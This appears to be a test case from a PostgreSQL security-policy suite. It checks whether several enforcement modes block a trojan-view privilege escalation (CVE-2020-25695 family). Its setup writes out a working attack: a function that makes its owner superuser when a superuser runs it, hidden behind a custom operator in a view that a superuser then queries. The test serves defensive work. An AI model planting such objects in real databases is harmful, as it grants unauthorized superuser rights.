/*---
title: An operator inside another role's view runs its function as the reader
pattern: Trojan view whose body hides a user-defined operator (CVE-2020-25695 family)
description: >
  mallory's view mallory.v_prices filters with her operator mallory.=== (integer, integer), whose
  function mallory.int_matches escalates when a superuser runs it. alice, a superuser, reads the
  view; the operator's function runs with her rights and makes mallory a superuser. The view
  brought the call; the operator is how.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: view, object: mallory.v_prices, owner: mallory}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
CREATE FUNCTION mallory.int_matches(a integer, b integer) RETURNS boolean
LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
    ALTER ROLE mallory SUPERUSER;
  END IF;
  RETURN a = b;
END $$;
CREATE OPERATOR mallory.=== (LEFTARG = integer, RIGHTARG = integer, FUNCTION = mallory.int_matches);
CREATE TABLE mallory.prices (item integer, price numeric);
INSERT INTO mallory.prices VALUES (1, 9.5), (2, 12);
CREATE VIEW mallory.v_prices AS SELECT item, price FROM mallory.prices WHERE item OPERATOR(mallory.===) 1;
GRANT SELECT ON mallory.v_prices TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT * FROM mallory.v_prices;
